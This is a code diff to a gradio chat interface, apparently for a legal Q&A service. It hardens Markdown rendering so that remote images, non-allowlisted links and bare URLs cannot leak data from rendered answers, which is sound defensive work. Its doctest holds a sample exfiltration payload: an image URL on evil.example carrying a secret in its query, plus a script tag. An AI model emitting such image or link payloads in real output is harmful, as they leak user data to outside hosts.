@@ -8,6 +8,7 @@ before gradio's Markdown renderer sees them, and the citation and source panels 
 from __future__ import annotations
 
 import html
+import re
 import time
 from dataclasses import asdict
 from typing import Any
@@ -125,9 +126,49 @@ mark.cite-unknown_law, mark.cite-nonexistent_article { background: #fee2e2; }
 """
 
 
-def _escape_md(text: str) -> str:
-    """Chat text for gradio's Markdown renderer: no raw HTML survives (``<`` becomes ``&lt;``)."""
-    return (text or "").replace("<", "&lt;")
+_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\s?(?:\([^)\n]{0,2000}\)|\[[^\]\n]{0,200}\])")
+_MD_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+[\"'(][^)\n]{0,300})?\s*\)")
+_MD_REF_DEF = re.compile(r"^ {0,3}\[[^\]\n]{1,200}\]:\s*\S+.*$", re.MULTILINE)
+_BARE_URL = re.compile(r"\b((?:https?|ftp)):(//[^\s)\]]+)|\bwww\.", re.IGNORECASE)
+
+
+def _allowed_link(url: str, allowed_hosts: tuple[str, ...]) -> bool:
+    """Relative links (this site) and links to the allowlisted hosts; nothing else becomes clickable."""
+    from urllib.parse import urlsplit
+
+    if url.startswith(("/", "#")) and not url.startswith("//"):
+        return True
+    try:
+        parts = urlsplit(url)
+    except ValueError:
+        return False
+    return parts.scheme in ("http", "https") and (parts.hostname or "") in allowed_hosts
+
+
+def _escape_md(text: str, allowed_hosts: tuple[str, ...] = ()) -> str:
+    """Chat text for gradio's Markdown renderer. No raw HTML survives (``<`` becomes ``&lt;``); no image is
+    fetched (``![alt](url)`` shows its alt text: a remote image would leak through its URL the moment the
+    page renders); a link stays a link only to this site or an allowlisted host, otherwise its text shows;
+    bare URLs of other hosts are not auto-linked.
+
+    >>> _escape_md('见![x](https://evil.example/p?q=秘密)与[条文](https://evil.example/a)和<script>')
+    '见x与条文和&lt;script>'
+    """
+    text = (text or "").replace("<", "&lt;")
+    text = _MD_IMAGE.sub(lambda m: m.group(1), text)
+    text = _MD_REF_DEF.sub("", text)  # [ref]: url definitions would turn [ref] into a link
+
+    def link(m: re.Match) -> str:
+        return m.group(0) if _allowed_link(m.group(2), allowed_hosts) else m.group(1)
+
+    text = _MD_LINK.sub(link, text)
+
+    def bare(m: re.Match) -> str:
+        if m.group(1) and _allowed_link(f"{m.group(1)}:{m.group(2)}", allowed_hosts):
+            return m.group(0)
+        return f"{m.group(1)}\\:{m.group(2)}" if m.group(1) else "www\\."  # an escaped colon or dot: no autolink
+
+    return _BARE_URL.sub(bare, text)
 
 
 def _e(text: Any) -> str:
@@ -214,17 +255,17 @@ def check_html(report: dict | None, annotated: str, lang: str) -> str:
             f'<div class="ea-check-text">{annotated}</div><ul class="ea-check-list">{"".join(lines)}</ul></div>')
 
 
-def _chat(turns: list[dict], lang: str) -> list[dict]:
+def _chat(turns: list[dict], lang: str, allowed_hosts: tuple[str, ...] = ()) -> list[dict]:
     messages = []
     for turn in turns:
-        messages.append({"role": "user", "content": _escape_md(turn["q"])})
+        messages.append({"role": "user", "content": _escape_md(turn["q"], allowed_hosts)})
         if turn.get("answer") is not None:
             content = turn["answer"]["text"]
         elif turn.get("error"):
             content = "⚠️ " + turn["error"]
         else:
             content = turn.get("partial") or TEXT[lang]["thinking"]
-        messages.append({"role": "assistant", "content": _escape_md(content)})
+        messages.append({"role": "assistant", "content": _escape_md(content, allowed_hosts)})
     return messages
 
 
@@ -239,6 +280,7 @@ def _history(turns: list[dict]) -> list[dict]:
 def build_ui(service, *, audit: AuditLog | None = None) -> gr.Blocks:
     """The chat page; mount it on the API app with :func:`mount_ui`."""
     audit = audit if audit is not None else AuditLog.from_settings(service.settings)
+    links = tuple(service.settings.link_allowlist)  # hosts an answer's links may point to
     zh = TEXT["zh"]
 
     def respond(question: str, turns: list[dict], lang: str):
@@ -249,7 +291,7 @@ def build_ui(service, *, audit: AuditLog | None = None) -> gr.Blocks:
             return
         turns = [dict(t) for t in turns or []] + [{"q": question, "partial": "", "answer": None, "error": None}]
         shown = len(turns) - 1
-        yield _chat(turns, lang), turns, "", "", sources_html(None, lang), shown
+        yield _chat(turns, lang, links), turns, "", "", sources_html(None, lang), shown
         history = _history(turns[:-1])
         t0 = time.perf_counter()
         try:
@@ -257,7 +299,7 @@ def build_ui(service, *, audit: AuditLog | None = None) -> gr.Blocks:
                 kind = ev.get("type")
                 if kind == "delta":
                     turns[-1]["partial"] += ev.get("text", "")
-                    yield _chat(turns, lang), gr.skip(), gr.skip(), gr.skip(), gr.skip(), gr.skip()
+                    yield _chat(turns, lang, links), gr.skip(), gr.skip(), gr.skip(), gr.skip(), gr.skip()
                 elif kind == "reset":
                     turns[-1]["partial"] = ""
                 elif kind == "final":
@@ -272,7 +314,7 @@ def build_ui(service, *, audit: AuditLog | None = None) -> gr.Blocks:
             audit.log_error(question, channel="ui", error=f"internal_error: {type(exc).__name__}",
                             total_ms=(time.perf_counter() - t0) * 1000)
         answer = turns[-1]["answer"]
-        yield _chat(turns, lang), turns, "", citations_html(answer, lang), sources_html(answer, lang), shown
+        yield _chat(turns, lang, links), turns, "", citations_html(answer, lang), sources_html(answer, lang), shown
 
     def select_answer(turns: list[dict], lang: str, evt: gr.SelectData):
         index = evt.index if isinstance(evt.index, int) else evt.index[0]
@@ -306,7 +348,7 @@ def build_ui(service, *, audit: AuditLog | None = None) -> gr.Blocks:
         answer = turns[shown]["answer"] if turns and shown is not None and shown < len(turns) else None
         updates = [
             header_md(lang), gr.update(value=t["notice"]),
-            gr.update(label=t["chat"], placeholder=t["placeholder"], value=_chat(turns or [], lang)),
+            gr.update(label=t["chat"], placeholder=t["placeholder"], value=_chat(turns or [], lang, links)),
             gr.update(label=t["question"], placeholder=t["question_ph"]), gr.update(value=t["send"]),
             gr.update(value=t["clear"]), gr.update(value=f"**{t['examples']}**"),
             *[gr.update(value=q) for q in EXAMPLES[lang]],
